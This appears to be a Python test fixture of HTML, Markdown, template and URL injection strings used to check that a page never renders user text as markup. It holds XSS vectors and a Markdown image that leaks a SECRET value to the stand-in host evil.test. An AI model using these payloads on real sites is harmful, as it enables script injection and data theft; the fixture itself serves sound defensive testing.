"""Text that would run, load or lead elsewhere if any part of the page took it for markup; hosts end in .test."""

TEXTS = [
    "<script>window.ran=1</script>",
    "<img src=x onerror=window.ran=1>",
    "<img src=https://evil.test/pixel.png>",
    "<svg/onload=window.ran=1>",
    "<svg><script>window.ran=1</script></svg>",
    '<iframe srcdoc="<script>parent.ran=1</script>"></iframe>',
    "<a href=javascript:window.ran=1>click</a>",
    "<a href=https://evil.test>[[1]]</a>",
    "[click](javascript:window.ran=1) [x](https://evil.test) [y](data:text/html,<script>1</script>)",
    "![x](https://evil.test/?q=SECRET) [[1]](https://evil.test)",
    "<!-- <style>*{display:none}</style>",
    "</textarea></title></style></script><script>window.ran=1</script>",
    "<style>*{background:url(https://evil.test/)}</style>",
    "<base href=//evil.test><link rel=stylesheet href=//evil.test><meta http-equiv=refresh content=0;//evil.test>",
    "<form action=//evil.test><input name=p autofocus onfocus=window.ran=1></form>",
    "<math><mtext></p><img src onerror=window.ran=1>",
    "<details open ontoggle=window.ran=1>x</details><video src=//evil.test/v onerror=window.ran=1>",
    "<body onload=window.ran=1 class=evil id=turns>",
    "<template shadowrootmode=open><script>window.ran=1</script></template>",
    "[ref]: https://evil.test\n\n[ref] https://evil.test www.evil.test",
    '{{constructor.constructor("window.ran=1")()}} ${window.ran=1} `${window.ran=1}`',
    "' onmouseover=window.ran=1 x='\" onfocus=window.ran=1 autofocus tabindex=0 y=\"",
    "&lt;script&gt;window.ran=1&lt;/script&gt; &#60;img src=x onerror=window.ran=1&#62;",
    "```html\n<img src=x onerror=window.ran=1>\n```\n\n`<b onclick=window.ran=1>`",
    "| <img src=x onerror=window.ran=1> |\n|---|\n| <script>window.ran=1</script> |",
    "\u202e<script>window.ran=1</script>\u2028<img src=x onerror=window.ran=1>\x00",
]
ALL = "\n\n".join(TEXTS)
ONE_LINE = " ".join(" ".join(TEXTS).replace("\x00", "").split())

ADDRESSES = [
    "javascript:window.ran=1",
    "JaVaScRiPt:window.ran=1",
    "\x01javascript:window.ran=1",
    "java\nscript:window.ran=1",
    "data:text/html,<script>window.ran=1</script>",
    "vbscript:x",
    "//evil.test/",
    "\\\\evil.test\\",
    "https://user:pw@evil.test/",
    '" onmouseover="window.ran=1" x="',
    "'><img src=x onerror=window.ran=1>",
]
